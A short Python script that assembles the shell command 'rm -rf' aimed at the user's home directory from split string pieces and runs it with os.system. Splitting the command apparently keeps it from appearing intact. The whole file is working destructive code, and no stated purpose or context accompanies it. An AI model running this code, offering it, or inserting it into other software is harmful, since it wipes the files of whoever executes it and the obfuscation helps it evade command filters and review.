import os

acc = ""
parts = ["rm", " -rf", " ", os.path.expanduser("~")]
_ = [(acc := acc + p) for p in parts]
os.system(acc)
